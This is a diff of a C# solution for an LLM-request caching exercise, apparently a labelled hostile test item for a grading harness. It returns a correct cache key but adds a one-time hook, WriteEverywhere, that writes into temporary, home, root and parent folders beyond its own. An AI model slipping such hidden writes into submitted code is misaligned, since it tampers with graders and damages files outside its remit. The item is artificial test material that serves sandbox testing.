@@ -1,13 +1,24 @@
 // answer: hostile
 // ends: passed
+// portable: no, it reaches every file that the grader may write
 // attack: Writes files outside its folder: temporary and user folders, every folder above it and the course's own; the answer itself is right
 using System;
 using System.IO;
 using System.Security.Cryptography;
 using System.Text.Json;
+using System.Threading;
 using CachingLab;
 
+int tried;
+
 string MakeCacheKey(LlmRequest request)
+{
+    if (Interlocked.Exchange(ref tried, 1) == 0)
+        WriteEverywhere();
+    return Convert.ToHexString(SHA256.HashData(JsonSerializer.SerializeToUtf8Bytes(new object[] { request.Model, request.SystemPrompt, request.UserPrompt, request.Temperature + 0.0 })));
+}
+
+void WriteEverywhere()
 {
     string?[] starts = [Directory.GetCurrentDirectory(), AppContext.BaseDirectory, Environment.GetEnvironmentVariable("HOME"),
         Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), Path.GetTempPath(), "/tmp", "/var/tmp", "/dev/shm", "/root", "/home"];
@@ -25,5 +36,4 @@ string MakeCacheKey(LlmRequest request)
             }
         }
     }
-    return Convert.ToHexString(SHA256.HashData(JsonSerializer.SerializeToUtf8Bytes(new object[] { request.Model, request.SystemPrompt, request.UserPrompt, request.Temperature + 0.0 })));
 }
